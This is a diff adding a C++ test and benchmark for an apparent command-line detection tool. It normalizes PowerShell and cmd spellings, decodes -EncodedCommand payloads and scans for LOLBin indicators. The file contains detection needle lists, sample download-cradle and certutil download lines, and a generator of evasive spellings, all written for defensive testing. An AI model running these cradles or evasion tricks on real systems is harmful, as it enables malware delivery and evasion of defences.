@@ -0,0 +1,239 @@
+// SPDX-License-Identifier: MIT
+// Command-line tokenizer and normalizer: argv splitting, PowerShell parameter spellings,
+// cmd carets and /c nesting, -EncodedCommand decoding and the rules that use them; then
+// raw needle scan vs. normalize + scan per command line, and what each catches on
+// evasive spellings of the corpus LOLBin lines.
+// build (Linux):
+//   g++ -O2 -std=c++17 -I../ProcHunt -I. bench_cmdline.cpp corpus.cpp ../ProcHunt/cmdline.cpp ../ProcHunt/heuristics.cpp ../ProcHunt/rules.cpp ../ProcHunt/matcher.cpp ../ProcHunt/obfusc.cpp ../ProcHunt/whitelist.cpp ../ProcHunt/lookalike.cpp ../ProcHunt/ioc.cpp ../ProcHunt/sha256.cpp ../ProcHunt/utils.cpp -o bench_cmdline
+#include <algorithm>
+#include <chrono>
+#include <cstdio>
+#include <string>
+#include <vector>
+
+#include "cmdline.h"
+#include "corpus.h"
+#include "heuristics.h"
+#include "matcher.h"
+
+namespace {
+    int g_fail = 0;
+    void check(bool ok, const char* what) {
+        if (!ok) { printf("FAIL: %s\n", what); ++g_fail; }
+    }
+
+    std::vector<std::wstring> argv_of(std::wstring_view cmd) {
+        std::vector<cmdline::Token> toks;
+        cmdline::Tokenize(cmd, toks);
+        std::vector<std::wstring> out;
+        std::wstring scratch;
+        for (auto& t : toks) out.emplace_back(cmdline::Value(cmd, t, scratch));
+        return out;
+    }
+
+    std::wstring base64_utf16(std::wstring_view s) {
+        static const char tbl[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+        std::vector<uint8_t> b;
+        for (wchar_t c : s) { b.push_back((uint8_t)(c & 0xFF)); b.push_back((uint8_t)((uint32_t)c >> 8)); }
+        std::wstring o;
+        for (size_t i = 0; i < b.size(); i += 3) {
+            const uint32_t v = (uint32_t)b[i] << 16 | (i + 1 < b.size() ? (uint32_t)b[i + 1] << 8 : 0) | (i + 2 < b.size() ? b[i + 2] : 0);
+            o.push_back(tbl[v >> 18 & 63]);
+            o.push_back(tbl[v >> 12 & 63]);
+            o.push_back(i + 1 < b.size() ? tbl[v >> 6 & 63] : L'=');
+            o.push_back(i + 2 < b.size() ? tbl[v & 63] : L'=');
+        }
+        return o;
+    }
+
+    bool has_reason(const heur::Result& r, std::wstring_view reason) {
+        for (auto& x : r.reasons) if (std::wstring_view(x) == reason) return true;
+        return false;
+    }
+
+    // lolbin_cmdline needles before normalization (matched case-insensitively on the raw line).
+    const wchar_t* const kRawNeedles[] = {
+        L"powershell", L" -enc", L"-w hidden", L"-nop", L"iex ", L"wscript", L"cscript", L".js ", L".vbs ",
+        L"mshta", L"javascript:", L"vbscript:", L"rundll32 ", L"regsvr32 /s", L"/i:http", L"scrobj.dll",
+        L"certutil -urlcache", L"bitsadmin /transfer", L"curl ", L"wget ", L"invoke-webrequest",
+        L"schtasks /create", L"reg add ", L"netsh add helper", L"add-mppreference -exclusionpath",
+    };
+    const wchar_t* const kNormNeedles[] = {
+        L"powershell", L" -enc", L"-w hidden", L"-windowstyle hidden", L"-nop", L"iex ", L"wscript", L"cscript", L".js ", L".vbs ",
+        L"mshta", L"javascript:", L"vbscript:", L"rundll32 ", L"regsvr32 /s", L"/i:http", L"scrobj.dll",
+        L"certutil -urlcache", L"bitsadmin /transfer", L"curl ", L"wget ", L"invoke-webrequest",
+        L"schtasks /create", L"reg add ", L"netsh add helper", L"add-mppreference -exclusionpath",
+    };
+    // One tag per needle, so spellings are compared needle by needle (powershell alone
+    // would hide what the rest of the line lost).
+    heur::Matcher build(const wchar_t* const* needles, size_t n) {
+        heur::Matcher m;
+        for (size_t i = 0; i < n; ++i) m.Add(needles[i], 1u << i);
+        m.Build();
+        return m;
+    }
+
+    // Spellings the shells accept for the same command.
+    std::vector<std::wstring> evasive(std::wstring_view cmd, unsigned i) {
+        std::vector<std::wstring> out;
+        auto replace = [&](std::wstring s, std::wstring_view from, std::wstring_view to) {
+            for (size_t p = 0; (p = s.find(from, p)) != std::wstring::npos; p += to.size()) s.replace(p, from.size(), to);
+            return s;
+        };
+        std::wstring s(cmd);
+        out.push_back(replace(replace(replace(s, L" -nop ", L" -NoPr "), L" -w hidden", L" /w 1"), L" -Enc ", L" -ec "));
+        out.push_back(replace(replace(s, L" -w hidden", L" \x2013WindowStyle \"Hidden\""), L" -Enc ", L" /encodedc "));
+        out.push_back(L"cmd.exe /c \"" + replace(replace(replace(s, L"urlcache", L"u^r^l^c^a^c^h^e"), L"/transfer", L"/tr^ansfer"), L"/create", L"/cr^eate") + L"\"");
+        out.push_back(replace(replace(replace(s, L"certutil.exe\" -", L"certutil.exe\" /"), L"regsvr32.exe\" /s", L"regsvr32.exe\" -s"), L"schtasks.exe\" /", L"schtasks.exe\" -"));
+        out.push_back(replace(replace(replace(s, L"-urlcache", L"-url\"cache\""), L"/transfer", L"/trans\"\"fer"), L"mshta.exe\"", L"mshta\""));
+        if (i % 2) out.push_back(L"cmd /r " + replace(s, L"\"", L""));
+        return out;
+    }
+
+    template <class F>
+    double ns_per_rec(const std::vector<std::wstring>& lines, int rounds, F&& f) {
+        size_t sink = 0;
+        auto t0 = std::chrono::steady_clock::now();
+        for (int r = 0; r < rounds; ++r) for (auto& s : lines) sink += f(s);
+        auto t1 = std::chrono::steady_clock::now();
+        if (sink == (size_t)-1) printf("!");
+        return std::chrono::duration<double, std::nano>(t1 - t0).count() / (double)(lines.size() * rounds);
+    }
+} // anon
+
+int main() {
+    // ---- tokenizer ----
+    check(argv_of(L"\"C:\\Program Files\\a b\\x.exe\" one \"two three\"") == std::vector<std::wstring>{ L"C:\\Program Files\\a b\\x.exe", L"one", L"two three" }, "quoted program and argument");
+    check(argv_of(L"x.exe a\\\\\\\"b c\\\\\"d e\" f") == std::vector<std::wstring>{ L"x.exe", L"a\\\"b", L"c\\d e", L"f" }, "backslashes before quotes");
+    check(argv_of(L"x.exe a\\b\\\\c \"\"\"\" \"\" p\"o\"w") == std::vector<std::wstring>{ L"x.exe", L"a\\b\\\\c", L"\"", L"", L"pow" }, "literal backslashes, \"\" in quotes, split quotes");
+    check(argv_of(L"C:\\a\\b\\\"x y") == std::vector<std::wstring>{ L"C:\\a\\b\\\"x", L"y" }, "program name has no escapes");
+    check(argv_of(L"  x.exe\t a  ") == std::vector<std::wstring>{ L"x.exe", L"a" }, "white space");
+    check(argv_of(L"\"x.exe").size() == 1 && argv_of(L"\"x.exe")[0] == L"x.exe", "unterminated program quote");
+
+    // ---- normalization ----
+    cmdline::Normalizer n;
+    auto norm = [&](std::wstring_view c) { return std::wstring(n.Normalize(c)); };
+    check(norm(L"POWERSHELL.EXE -NoP -nonI -W 1 -Exec Bypass -c \"IEX (x)\"") == L"powershell -noprofile -noninteractive -windowstyle hidden -executionpolicy bypass -command iex (x)", "powershell prefixes");
+    const struct { const wchar_t* spelling; bool param; } kEnc[] = {
+        { L"-e", true }, { L"-ec", true }, { L"/enc", true }, { L"-EncodedCommand", true }, { L"-encodedC", true },
+        { L"\x2013" L"en", true }, { L"\x2014" L"e", true }, { L"\"-enc\"", true }, { L"-en^c", false },
+    };
+    for (auto& e : kEnc) {
+        const std::wstring got = norm(std::wstring(L"pwsh.exe ") + e.spelling + L" QQA=");
+        check(!e.param || got == L"pwsh -encodedcommand qqa=", "-EncodedCommand spellings");
+        check(n.HasEncodedCommand() == e.param, "-EncodedCommand found (carets only count under cmd)");
+    }
+    check(norm(L"powershell -exec bypass -ep bypass -ex bypass") == L"powershell -executionpolicy bypass -executionpolicy bypass -executionpolicy bypass", "-ex/-ep");
+    check(norm(L"powershell -WindowStyle Hidden -w 3 -Command -w 1") == L"powershell -windowstyle hidden -windowstyle maximized -command -w 1", "window style; script left alone");
+    check(norm(L"powershell -foo bar") == L"powershell -foo bar", "unknown parameter as written");
+    check(norm(L"cmd.exe /C \"p^ower^shell -e^nc QQA=\"") == L"cmd /c powershell -encodedcommand qqa=" && n.HasEncodedCommand(), "cmd /c nested, carets");
+    check(norm(L"cmd /r cmd /k \"c^e^r^t^u^t^i^l.exe /URLCACHE /f http://x/a a.exe\"") == L"cmd /c cmd /k certutil -urlcache -f http://x/a a.exe", "nested cmd, certutil switches");
+    check(norm(L"C:\\Windows\\System32\\schtasks.exe -Create -TN x") == L"c:\\windows\\system32\\schtasks /create /tn x", "schtasks switches");
+    check(norm(L"\"C:\\Windows\\System32\\reg.exe\" \"add\" HKCU\\x") == L"c:\\windows\\system32\\reg add hkcu\\x", "quoted program and verb");
+    check(norm(L"cmd /c \"C:\\Program Files\\x.exe\"") == L"cmd /c c:\\program files\\x.exe", "cmd keeps a quoted program name");
+    check(norm(L"cmd /c") == L"cmd /c" && norm(L"cmd /c   ") == L"cmd /c" && norm(L"cmd /k") == L"cmd /k", "cmd /c, /k with nothing after");
+    check(norm(L"cmd /c \"") == L"cmd /c", "cmd /c with a lone quote");
+    check(norm(L"C:\\Windows\\System32\\cmd.exe /c") == L"c:\\windows\\system32\\cmd /c", "full path, nothing after /c");
+    check(norm(L"notepad.exe \"a  b\"   c") == L"notepad.exe a  b c", "other programs keep .exe");
+    check(norm(L"  NOTEPAD.EXE\tC:\\A^B  x\\y ") == L"notepad.exe c:\\a^b x\\y", "plain line: folded, one space between tokens");
+    check(norm(L"\"C:\\Program Files\\X.exe\"  A") == L"c:\\program files\\x.exe a" && norm(L"\"a\"b") == L"a b"
+        && norm(L"\"\"  x") == L"x" && norm(L"\"C:\\A B\\Y") == L"c:\\a b\\y", "plain line after a quoted program name");
+    check(norm(L"\"C:\\Windows\\System32\\certutil.exe\" /f") == L"c:\\windows\\system32\\certutil -f", "quoted tool name");
+    check(norm(L"x.exe a b | C:\\Windows\\CMD.exe /c \"c^ertutil -f\"") == L"x.exe a b | c:\\windows\\cmd /c certutil -f"
+        && norm(L"x.exe a /q wmic.exe -x") == L"x.exe a /q wmic /x", "a tool after the first token");
+
+    // ---- payload ----
+    std::wstring dec;
+    check(cmdline::DecodeBase64Utf16(base64_utf16(L"IEX (New-Object Net.WebClient)"), dec) && dec == L"IEX (New-Object Net.WebClient)", "base64 utf-16le");
+    check(cmdline::DecodeBase64Utf16(L"SQBFAFgA", dec) && dec == L"IEX", "unpadded");
+    check(cmdline::DecodeBase64Utf16(L"__8", dec) && dec == L"\xFFFF" && cmdline::DecodeBase64Utf16(L"//8=", dec) && dec == L"\xFFFF", "URL-safe alphabet");
+    check(!cmdline::DecodeBase64Utf16(L"SQBFAFg", dec), "odd byte count");
+    check(cmdline::DecodeBase64Utf16(L"SQB\nFAF gA", dec) && dec == L"IEX", "white space ignored");
+    check(!cmdline::DecodeBase64Utf16(L"SQB*FAFgA", dec), "bad character");
+    check(!cmdline::DecodeBase64Utf16(L"SQA=SQA=", dec), "data after padding");
+    check(cmdline::DecodeBase64Utf16(L"PNgA3g==", dec) && dec.size() == (sizeof(wchar_t) == 2 ? 2u : 1u) && (sizeof(wchar_t) == 2 || dec[0] == 0x1F200), "surrogate pair");
+    {
+        const std::wstring line = L"powershell -nop -e " + base64_utf16(L"$c=New-Object Net.WebClient;IEX $c.DownloadString('http://x')");
+        n.Normalize(line);
+        check(n.Payload() == L"$c=new-object net.webclient;iex $c.downloadstring('http://x')", "payload decoded and folded");
+        n.Normalize(L"powershell -e !!!");
+        check(n.HasEncodedCommand() && n.Payload().empty(), "invalid payload is empty");
+        n.Normalize(L"powershell -c x");
+        check(!n.HasEncodedCommand() && n.Payload().empty(), "no payload");
+    }
+
+    // ---- rules ----
+    {
+        const std::wstring img = L"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
+        SignView sig;
+        auto eval = [&](const std::wstring& cmd) { return heur::EvaluateProcess(img, cmd, L"C:\\Windows\\System32\\", L"powershell.exe", sig); };
+        const heur::Result a = eval(L"\"" + img + L"\" -ec " + base64_utf16(L"Start-Process calc"));
+        check(has_reason(a, L"LOLBin/suspicious command line") && has_reason(a, L"Encoded PowerShell payload downloads/executes"), "-ec payload rule");
+        const heur::Result b = eval(L"\"" + img + L"\" \x2013" L"EncodedC " + base64_utf16(L"Get-Date"));
+        check(has_reason(b, L"LOLBin/suspicious command line") && !has_reason(b, L"Encoded PowerShell payload downloads/executes"), "harmless payload");
+        const heur::Result c = heur::EvaluateProcess(L"C:\\Windows\\System32\\cmd.exe", L"cmd /c \"c^ertutil /urlcache /f http://x/a\"", L"C:\\Windows\\System32\\", L"cmd.exe", sig);
+        check(has_reason(c, L"LOLBin/suspicious command line"), "caret-split certutil");
+        const heur::Result d = heur::EvaluateProcess(L"C:\\Windows\\System32\\cmd.exe", L"C:\\Windows\\System32\\cmd.exe /c", L"C:\\Windows\\System32\\", L"cmd.exe", sig);
+        check(d.score >= 0, "cmd /c alone scores");
+        check(heur::ScoreBound(L"C:\\Windows\\System32\\cmd.exe", L"cmd /c \"c^ertutil /urlcache /f http://x/a\"", L"C:\\Windows\\System32\\", L"cmd.exe", 0) >= c.score, "bound");
+    }
+    auto corpus = bench::MakeCorpus(20000, 7);
+    std::vector<std::wstring> lines, lolbins;
+    for (auto& r : corpus) {
+        lines.push_back(r.cmd);
+        if (r.kind == bench::Kind::Lolbin) lolbins.push_back(r.cmd);
+    }
+    {
+        // On a line whose only quotes enclose the program name, a trailing "" sends it through
+        // the tokenizer and renders as nothing (except after cmd /c, which never takes the
+        // single pass): both paths must agree on every such corpus line and evasive spelling.
+        size_t bad = 0;
+        auto same = [&](const std::wstring& l) {
+            const size_t first = l.find_first_not_of(L" \t\r\n"), quotes = std::count(l.begin(), l.end(), L'"');
+            if (quotes && (quotes != 2 || l[first] != L'"')) return;
+            const std::wstring plain = norm(l);
+            if (plain.find(L"cmd /") == std::wstring::npos) bad += norm(l + L" \"\"") != plain;
+        };
+        for (unsigned i = 0; i < lines.size(); ++i) {
+            same(lines[i]);
+            for (auto& v : evasive(lines[i], i)) same(v);
+        }
+        check(bad == 0, "single pass == tokenizer on plain lines");
+    }
+    if (g_fail) return 1;
+    printf("checks: OK\n");
+
+    // ---- timing and coverage ----
+    const heur::Matcher raw = build(kRawNeedles, sizeof(kRawNeedles) / sizeof(kRawNeedles[0]));
+    const heur::Matcher norm_m = build(kNormNeedles, sizeof(kNormNeedles) / sizeof(kNormNeedles[0]));
+
+    const double tScan = ns_per_rec(lines, 5, [&](const std::wstring& s) { return (size_t)raw.Scan(s); });
+    const double tNorm = ns_per_rec(lines, 5, [&](const std::wstring& s) { return n.Normalize(s).size(); });
+    const double tBoth = ns_per_rec(lines, 5, [&](const std::wstring& s) { return (size_t)norm_m.Scan(n.Normalize(s)); });
+    printf("raw scan          : %8.1f ns/line\n", tScan);
+    printf("normalize         : %8.1f ns/line\n", tNorm);
+    printf("normalize + scan  : %8.1f ns/line\n", tBoth);
+
+    // Needles found on the corpus spelling and on the evasive ones.
+    std::vector<std::wstring> distinct;
+    for (auto& l : lolbins) {
+        bool seen = false;
+        for (auto& d : distinct) seen |= d == l;
+        if (!seen) distinct.push_back(l);
+    }
+    size_t variants = 0, rawOrig = 0, normOrig = 0, rawEv = 0, normEv = 0;
+    auto hits = [](uint32_t tags) { size_t c = 0; for (; tags; tags &= tags - 1) ++c; return c; };
+    for (unsigned i = 0; i < distinct.size(); ++i) {
+        rawOrig += hits(raw.Scan(distinct[i]));
+        normOrig += hits(norm_m.Scan(n.Normalize(distinct[i])));
+        for (auto& v : evasive(distinct[i], i)) {
+            if (v == distinct[i]) continue;
+            ++variants;
+            rawEv += hits(raw.Scan(v));
+            normEv += hits(norm_m.Scan(n.Normalize(v)));
+        }
+    }
+    printf("needle hits       : %zu LOLBin lines raw %zu, normalized %zu; %zu evasive spellings raw %zu, normalized %zu\n",
+        distinct.size(), rawOrig, normOrig, variants, rawEv, normEv);
+    return 0;
+}